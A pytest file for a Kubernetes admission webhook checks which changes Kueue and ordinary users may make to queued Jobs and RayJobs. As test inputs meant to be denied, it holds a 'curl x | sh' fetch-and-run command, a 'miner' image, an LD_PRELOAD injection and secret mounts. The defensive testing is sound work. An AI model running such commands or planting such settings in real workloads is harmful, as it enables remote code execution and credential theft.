"""Kueue beside the platform, against the shipped policies (``platform.queues``).

Kueue's updates are built as its source builds them (kubernetes-sigs/kueue v0.19):
``jobframework`` starts a suspended run with ``RunWithPodSetsInfo`` (``spec.suspend``
false; ``podset.Merge`` of the flavor into each pod template: its ``nodeLabels`` merged
into ``nodeSelector`` keeping the template's keys, its tolerations appended when
missing, the ``kueue.x-k8s.io/podset`` label), and stops or preempts it with
``Suspend`` and ``RestorePodSetsInfo`` (the templates put back as they were). A RayJob
gets the same merge in its head, worker and submitter templates. Kueue acts as its own
account; a user with edit rights in the run namespace tries the same changes.
"""

from __future__ import annotations

import copy
from typing import Any

from harness import REPO
from harness.attack_chains import KUBERAY
from harness.cluster_state import Meta, State
from harness.shipped import ALICE, CORE, JOBS, RUN, created, rules, update
from harness.templates import KUEUE

from webhook.engine import evaluate, mutate, validate
from webhook.engine.context import Context, Requester
from webhook.keys import PLATFORM_RECORD, REQUESTED_BY
from webhook.policy.loader import load_policy
from webhook.policy.model import Policy, QueueController

CORE_RECORDS = {REQUESTED_BY: CORE.username, PLATFORM_RECORD: "true"}

SHIPPED = load_policy(REPO / "policies")
QUEUE = "kueue.x-k8s.io/queue-name"
PODSET = "kueue.x-k8s.io/podset"
ADMISSION = "kueue.x-k8s.io/admission"
# A ResourceFlavor as an admin writes it for the A100 nodes.
A100 = {
    "nodeLabels": {"nvidia.com/gpu.product": "NVIDIA-A100-SXM4-80GB"},
    "tolerations": [{"key": "nvidia.com/gpu", "operator": "Exists", "effect": "NoSchedule"}],
}
EMPTY: dict[str, Any] = {"nodeLabels": {}, "tolerations": []}


def run_spec() -> dict[str, Any]:
    """A run's pod spec: the platform already placed it in a zone (a key the flavor lacks)."""
    return {
        "restartPolicy": "Never",
        "nodeSelector": {"topology.kubernetes.io/zone": "eu-1a"},
        "containers": [
            {
                "name": "main",
                "image": "python:3.11",
                "resources": {"requests": {"cpu": "2", "memory": "4Gi"},
                              "limits": {"memory": "4Gi"}},
                "envFrom": [{"secretRef": {"name": "sec-api-r1"}}],
            }
        ],
    }  # fmt: skip


def job() -> dict[str, Any]:
    """The Core's run Job with K8S_JOB_SUSPEND: suspended, naming its queue."""
    return {
        "apiVersion": "batch/v1",
        "kind": "Job",
        "metadata": {"name": "r1", "namespace": "ml", "uid": "uid-job",
                     "labels": {**RUN, QUEUE: "team-a"}},
        "spec": {"suspend": True, "parallelism": 2, "completions": 2,
                 "template": {"metadata": {"labels": dict(RUN)}, "spec": run_spec()}},
    }  # fmt: skip


def rayjob() -> dict[str, Any]:
    """The Core's RayJob (K8sJobMode, its submitter template written by the Core)."""
    template = {"metadata": {"labels": dict(RUN)}, "spec": run_spec()}
    return {
        "apiVersion": "ray.io/v1",
        "kind": "RayJob",
        "metadata": {"name": "r1", "namespace": "ml", "uid": "uid-rayjob",
                     "labels": {**RUN, QUEUE: "team-a"}},
        "spec": {
            "suspend": True,
            "entrypoint": "python main.py",
            "submissionMode": "K8sJobMode",
            "shutdownAfterJobFinishes": True,
            "submitterPodTemplate": copy.deepcopy(template),
            "rayClusterSpec": {
                "headGroupSpec": {"rayStartParams": {}, "template": copy.deepcopy(template)},
                "workerGroupSpecs": [{"groupName": "workers", "replicas": 2, "minReplicas": 2,
                                      "maxReplicas": 2, "rayStartParams": {},
                                      "template": copy.deepcopy(template)}],
            },
        },
    }  # fmt: skip


def templates(obj: dict[str, Any]) -> list[tuple[str, dict[str, Any]]]:
    """(podset name, pod template) in the order Kueue's PodSets lists them."""
    spec = obj["spec"]
    if obj["kind"] == "Job":
        return [("main", spec["template"])]
    cluster = spec["rayClusterSpec"]
    out = [("head", cluster["headGroupSpec"]["template"])]
    out += [(g["groupName"], g["template"]) for g in cluster["workerGroupSpecs"]]
    return out + [("submitter", spec["submitterPodTemplate"])]


def kueue_start(stored: dict[str, Any], flavor: dict[str, Any]) -> dict[str, Any]:
    """``RunWithPodSetsInfo`` with the podset infos ``FromAssignment`` builds: suspend false,
    then ``podset.Merge`` of each info into its template."""
    started = copy.deepcopy(stored)
    started["spec"]["suspend"] = False
    for name, template in templates(started):
        meta, spec = template.setdefault("metadata", {}), template["spec"]
        meta["labels"] = {**meta.get("labels", {}), PODSET: name}
        spec["nodeSelector"] = {**flavor["nodeLabels"], **spec.get("nodeSelector", {})}
        tolerations = list(spec.get("tolerations", []))
        tolerations += [t for t in flavor["tolerations"] if t not in tolerations]
        if tolerations:
            spec["tolerations"] = tolerations
    return started


def kueue_stop(running: dict[str, Any], stored: dict[str, Any]) -> dict[str, Any]:
    """``Suspend`` then ``RestorePodSetsInfo``: the templates' labels, annotations,
    nodeSelector, tolerations and scheduling gates as the Workload recorded them."""
    stopped = copy.deepcopy(running)
    stopped["spec"]["suspend"] = True
    for (_, template), (_, original) in zip(templates(stopped), templates(stored), strict=True):
        template["metadata"] = copy.deepcopy(original["metadata"])
        for key in ("nodeSelector", "tolerations", "schedulingGates"):
            template["spec"].pop(key, None)
            if key in original["spec"]:
                template["spec"][key] = copy.deepcopy(original["spec"][key])
    return stopped


def stored_rayjob() -> dict[str, Any]:
    decision = evaluate(rayjob(), SHIPPED, namespace="ml", context=Context(CORE, State([])))
    assert decision.allowed, decision.message()
    assert decision.object["metadata"]["annotations"][PLATFORM_RECORD] == "true"
    return decision.object


def stored(kind: str) -> dict[str, Any]:
    return created(job(), CORE) if kind == "Job" else stored_rayjob()


def both(new: Any, old: Any, who: Requester) -> tuple[Any, Any]:
    return update(new, old, who)


# --- Kueue's own updates pass ---------------------------------------------------------------


def test_kueue_starts_and_stops_the_platforms_job_on_a_flavor_with_node_labels() -> None:
    """Denied ownership.changed before: the flavor's node labels changed the template."""
    for kind in ("Job", "RayJob"):
        before = stored(kind)
        started = kueue_start(before, A100)
        assert templates(started)[0][1]["spec"]["nodeSelector"] == {
            "nvidia.com/gpu.product": "NVIDIA-A100-SXM4-80GB",
            "topology.kubernetes.io/zone": "eu-1a",
        }
        mutation, validation = both(started, before, KUEUE)
        assert mutation.allowed and mutation.patch == [], (kind, mutation.patch)
        assert validation.allowed, (kind, validation.message())
        stopped = kueue_stop(started, before)
        assert templates(stopped) == templates(before)
        mutation, validation = both(stopped, started, KUEUE)
        assert mutation.patch == [] and validation.allowed, (kind, validation.message())


def test_kueue_starts_a_platform_rayjob_on_an_empty_flavor() -> None:
    """Denied before: the whole RayJob spec was compared, so even suspend alone was a change."""
    before = stored("RayJob")
    started = kueue_start(before, EMPTY)
    mutation, validation = both(started, before, KUEUE)
    assert mutation.patch == [] and validation.allowed, validation.message()


def test_kueue_admits_part_of_a_job_and_gates_it_for_topology() -> None:
    """A partial admission lowers parallelism; topology-aware scheduling adds Kueue's gate
    and annotation to the template."""
    before = stored("Job")
    started = kueue_start(before, A100)
    started["spec"]["parallelism"] = 1
    started["spec"]["template"]["metadata"]["annotations"] = {"kueue.x-k8s.io/workload": "job-r1"}
    started["spec"]["template"]["spec"]["schedulingGates"] = [{"name": "kueue.x-k8s.io/topology"}]
    assert both(started, before, KUEUE)[1].allowed


def test_an_admission_checks_own_keys_pass_once_their_prefix_is_the_queues() -> None:
    """The ProvisioningRequest admission check's podSetUpdates annotate every template."""
    before = stored("RayJob")
    started = kueue_start(before, A100)
    for _, template in templates(started):
        template["metadata"]["annotations"] = {
            "cluster-autoscaler.kubernetes.io/consume-provisioning-request": "pr-r1"
        }
    assert rules(both(started, before, KUEUE)[1]) == {"ownership.changed"}
    run = SHIPPED.named("digitalhub")
    assert run is not None
    queue = QueueController(identity=KUEUE.username,
                  prefixes=("kueue.x-k8s.io/", "cluster-autoscaler.kubernetes.io/"))  # fmt: skip
    platform = run.platform.model_copy(update={"queues": (queue,)})
    widened = Policy.of(run.model_copy(update={"platform": platform}))
    context = Context(KUEUE, State([]), "UPDATE")
    mutation = mutate(started, widened, namespace="ml", old=before, context=context)
    verdict = validate(mutation.object, widened, namespace="ml", old=before, context=context)
    assert mutation.patch == [] and verdict.allowed, verdict.message()


def default_submitter_start(flavor: dict[str, Any]) -> tuple[dict[str, Any], dict[str, Any]]:
    """The Core's RayJob leaving the submitter to KubeRay (K8sJobMode, no
    ``submitterPodTemplate``: the mode KubeRay's CRD defaults to), stored; and Kueue's
    start of it: ``RunWithPodSetsInfo`` merges the flavor into ``getSubmitterTemplate``'s
    default (the head's image, KubeRay's submitter resources) and sets it, as KubeRay
    would make the submitter Job anyway."""
    core = rayjob()
    core["spec"].pop("submitterPodTemplate")
    decision = evaluate(core, SHIPPED, namespace="ml", context=Context(CORE, State([])))
    assert decision.allowed, decision.message()
    before = decision.object
    started = copy.deepcopy(before)
    started["spec"].pop("suspend")  # KubeRay's Go type leaves a false suspend out
    head = started["spec"]["rayClusterSpec"]["headGroupSpec"]["template"]["spec"]
    started["spec"]["submitterPodTemplate"] = {
        "metadata": {"labels": {PODSET: "submitter"}},
        "spec": {"restartPolicy": "Never",
                 "nodeSelector": dict(flavor["nodeLabels"]),
                 "tolerations": list(flavor["tolerations"]),
                 "containers": [{"name": "ray-job-submitter",
                                 "image": head["containers"][0]["image"],
                                 "resources": {"limits": {"cpu": "1", "memory": "1Gi"},
                                               "requests": {"cpu": "500m",
                                                            "memory": "200Mi"}}}]},
    }  # fmt: skip
    for name, template in templates(started)[:-1]:
        meta, spec = template["metadata"], template["spec"]
        meta["labels"] = {**meta.get("labels", {}), PODSET: name}
        spec["nodeSelector"] = {**flavor["nodeLabels"], **spec.get("nodeSelector", {})}
        spec["tolerations"] = [*spec.get("tolerations", []), *flavor["tolerations"]]
    return before, started


def test_kueue_starts_a_platform_rayjob_whose_submitter_is_kuberays_default() -> None:
    """Denied ownership.changed before (the e2e test_kueue_ray.py found it): the
    submitter's template Kueue adds was a change of the spec. A template of the object's
    own images with nothing but their resources, which KubeRay would make anyway, is not."""
    for flavor in (A100, EMPTY):
        before, started = default_submitter_start(flavor)
        mutation, validation = both(started, before, KUEUE)
        assert mutation.patch == [] and validation.allowed, validation.message()
        stopped = copy.deepcopy(started)  # Suspend, then RestorePodSetsInfo: it stays
        stopped["spec"]["suspend"] = True
        assert both(stopped, started, KUEUE)[1].allowed


def test_kueue_adding_a_submitter_that_runs_something_else_is_ownership_changed() -> None:
    before, started = default_submitter_start(A100)
    submitter = started["spec"]["submitterPodTemplate"]["spec"]
    for field, value in (("image", "alice/miner"), ("command", ["sh", "-c", "curl x | sh"]),
                         ("envFrom", [{"secretRef": {"name": "sec-api-r1"}}])):  # fmt: skip
        hers = copy.deepcopy(started)
        hers["spec"]["submitterPodTemplate"]["spec"]["containers"][0][field] = value
        assert rules(both(hers, before, KUEUE)[1]) == {"ownership.changed"}, field
    secret = [{"name": "v", "secret": {"secretName": "sec-api-r1"}}]
    for field, value in (("serviceAccountName", "core"), ("volumes", secret)):
        hers = copy.deepcopy(started)
        hers["spec"]["submitterPodTemplate"]["spec"] = {**submitter, field: value}
        assert rules(both(hers, before, KUEUE)[1]) == {"ownership.changed"}, field
    # nor may a user add it, Kueue's or not
    assert "ownership.changed" in rules(both(started, before, ALICE)[1])


def test_kueue_starts_a_rayjob_whose_worker_groups_it_renders_with_empty_structs() -> None:
    """Denied ownership.changed before (the e2e test_kueue_ray.py found it, on a queue
    profile's RayJob, which Kueue's own webhook did not rewrite at CREATE): Kueue's start
    is a JSON merge patch of KubeRay's Go type, whose list of worker groups comes whole,
    each with ``scaleStrategy: {}`` (a struct, never left out); the stored object had none.
    An empty value where the other version has no key is the same to the operator."""
    before, started = default_submitter_start(A100)
    for group in started["spec"]["rayClusterSpec"]["workerGroupSpecs"]:
        group["scaleStrategy"] = {}
    assert both(started, before, KUEUE)[1].allowed
    # a strategy that says something is still the platform's
    started["spec"]["rayClusterSpec"]["workerGroupSpecs"][0]["scaleStrategy"] = {
        "workersToDelete": ["r1-worker-x"]
    }
    assert rules(both(started, before, KUEUE)[1]) == {"ownership.changed"}


# --- what a run runs is never the queue's ---------------------------------------------------


def test_kueue_changing_resources_or_images_is_ownership_changed() -> None:
    for kind in ("Job", "RayJob"):
        before = stored(kind)
        for field, value in (("image", "alice/miner"), ("resources", {"requests": {"cpu": "64"}}),
                             ("env", [{"name": "LD_PRELOAD", "value": "/x.so"}])):  # fmt: skip
            started = kueue_start(before, A100)
            templates(started)[-1][1]["spec"]["containers"][0][field] = value
            _, validation = both(started, before, KUEUE)
            assert rules(validation) == {"ownership.changed"}, (kind, field)
            assert "is a queue: it may start, stop and place the run" in validation.message()


def test_kueue_cannot_overwrite_a_node_selector_the_platform_set() -> None:
    """Kueue's merge fails on a key the template holds with another value; a change of
    one is not a placement Kueue makes."""
    before = stored("Job")
    moved = kueue_start(before, A100)
    moved["spec"]["template"]["spec"]["nodeSelector"]["topology.kubernetes.io/zone"] = "us-1"
    assert rules(both(moved, before, KUEUE)[1]) == {"ownership.changed"}


def test_an_undeclared_controller_is_told_how_to_declare_it() -> None:
    """Without platform.queues, Kueue's start is still refused, and the message points at
    the key that fixes it instead of "ask the platform" alone."""
    stranger = Requester("system:serviceaccount:queues:my-queue")
    before = stored("Job")
    _, validation = both(kueue_start(before, A100), before, stranger)
    # (and it is nobody's to start a queued run or write Kueue's labels but Kueue's)
    assert rules(validation) == {"ownership.changed", "queue.bypassed", "queue.reserved-label"}
    assert "declare it: platform.queues for a queue that starts and stops runs" in (
        validation.message()
    )
    _, validation = both(kueue_start(before, A100), before, ALICE)
    assert "platform.queues" not in validation.message()


# --- the same changes by a user go around the queue ---------------------------------------


def test_a_user_cannot_start_a_queued_run() -> None:
    for kind in ("Job", "RayJob"):
        before = stored(kind)
        hers = copy.deepcopy(before)
        hers["spec"]["suspend"] = False
        _, validation = both(hers, before, ALICE)
        # (a RayJob's whole spec is also the platform's: ownership.changed too)
        expected = {"queue.bypassed"} | ({"ownership.changed"} if kind == "RayJob" else set())
        assert rules(validation) == expected, kind
        assert "waits in queue 'team-a': only the queue starts it" in validation.message()
        # nor with the flavor Kueue would have picked
        _, validation = both(kueue_start(before, A100), before, ALICE)
        assert "queue.bypassed" in rules(validation), kind


def test_a_user_cannot_move_a_queued_run_to_another_queue_or_out_of_every_queue() -> None:
    for kind in ("Job", "RayJob"):
        before = stored(kind)
        for value in ("team-b", None):
            hers = copy.deepcopy(before)
            hers["metadata"]["labels"].pop(QUEUE)
            if value is not None:
                hers["metadata"]["labels"][QUEUE] = value
            _, validation = both(hers, before, ALICE)
            assert rules(validation) == {"queue.bypassed"}, (kind, value)
        # what she may do to the platform's Job stays allowed (an annotation)
        noted = copy.deepcopy(before)
        noted["metadata"]["annotations"]["note"] = "mine"
        assert both(noted, before, ALICE)[1].allowed, kind


def test_the_platform_and_kueue_may_unsuspend_and_a_suspend_without_queue_is_free() -> None:
    before = stored("Job")
    started = copy.deepcopy(before)
    started["spec"]["suspend"] = False
    assert both(started, before, CORE)[1].allowed
    # a run that names no queue: suspending and resuming is nobody's quota
    unqueued = created({**job(), "metadata": {**job()["metadata"], "labels": dict(RUN)}}, CORE)
    resumed = copy.deepcopy(unqueued)
    resumed["spec"]["suspend"] = False
    assert both(resumed, unqueued, ALICE)[1].allowed


def gated_pod(labels: dict[str, str]) -> dict[str, Any]:
    """A Pod Kueue's pod webhook gated (the queue label was there at its CREATE)."""
    return {"apiVersion": "v1", "kind": "Pod",
            "metadata": {"name": "p", "namespace": "ml",
                         "labels": {**labels, QUEUE: "team-a", "kueue.x-k8s.io/managed": "true"}},
            "spec": {**run_spec(), "schedulingGates": [{"name": ADMISSION}]}}  # fmt: skip


def test_only_kueue_lifts_its_admission_gate() -> None:
    """Kueue's pod integration gates the Pod; ungating merges the flavor into it. A user
    lifting the gate runs it unadmitted: nothing in Kueue stops her."""
    before = created(gated_pod(RUN), CORE)
    ungated = copy.deepcopy(before)
    ungated["spec"].pop("schedulingGates")
    _, validation = both(ungated, before, ALICE)
    assert rules(validation) == {"queue.bypassed"}
    assert "kueue.x-k8s.io/admission is the queue's scheduling gate" in validation.message()
    ungated["spec"]["nodeSelector"].update(A100["nodeLabels"])
    ungated["spec"]["tolerations"] = A100["tolerations"]
    mutation, validation = both(ungated, before, KUEUE)
    assert mutation.patch == [] and validation.allowed, validation.message()


def test_kueues_own_labels_are_written_by_kueue_alone() -> None:
    # her own run claiming a podset or another run's prebuilt Workload
    for label in (PODSET, "kueue.x-k8s.io/prebuilt-workload-name"):
        hers = gated_pod({**RUN, "dhcore/run": "mine"})
        hers["metadata"]["labels"][label] = "r1"
        hers["spec"]["containers"][0].pop("envFrom")
        decision = evaluate(hers, SHIPPED, namespace="ml", context=Context(ALICE, State([])))
        assert rules(decision) == {"queue.reserved-label"}, label
    # into the template of the platform's suspended Job
    before = stored("Job")
    hers = copy.deepcopy(before)
    hers["spec"]["template"]["metadata"]["labels"][PODSET] = "main"
    _, validation = both(hers, before, ALICE)
    assert rules(validation) == {"queue.reserved-label"}
    assert "spec.template.metadata.labels[kueue.x-k8s.io/podset]" in validation.message()
    # the job-controller copies the template Kueue wrote into the Job's Pods
    started = kueue_start(before, A100)
    child = {"apiVersion": "v1", "kind": "Pod",
             "metadata": {"name": "r1-x", "namespace": "ml",
                          "labels": started["spec"]["template"]["metadata"]["labels"],
                          "ownerReferences": [{"apiVersion": "batch/v1", "kind": "Job",
                                               "name": "r1", "uid": "uid-job",
                                               "controller": True}]},
             "spec": started["spec"]["template"]["spec"]}  # fmt: skip
    state = State([Meta("Job", "ml", "r1", "uid-job",
                        annotations=CORE_RECORDS)])  # fmt: skip
    decision = evaluate(child, SHIPPED, namespace="ml", context=Context(JOBS, state))
    assert decision.allowed, decision.message()
    assert decision.object["metadata"]["labels"][PODSET] == "main"


def test_kuberay_and_the_platform_are_not_the_queues_users() -> None:
    """KubeRay and the Core act on the platform's RayJob as before."""
    before = stored("RayJob")
    theirs = copy.deepcopy(before)
    theirs["spec"]["suspend"] = False
    assert both(theirs, before, KUBERAY)[1].allowed
    mutation = mutate(theirs, SHIPPED, namespace="ml", old=before,
                      context=Context(CORE, State([]), "UPDATE"))  # fmt: skip
    assert validate(mutation.object, SHIPPED, namespace="ml", old=before,
                    context=Context(CORE, State([]), "UPDATE")).allowed  # fmt: skip
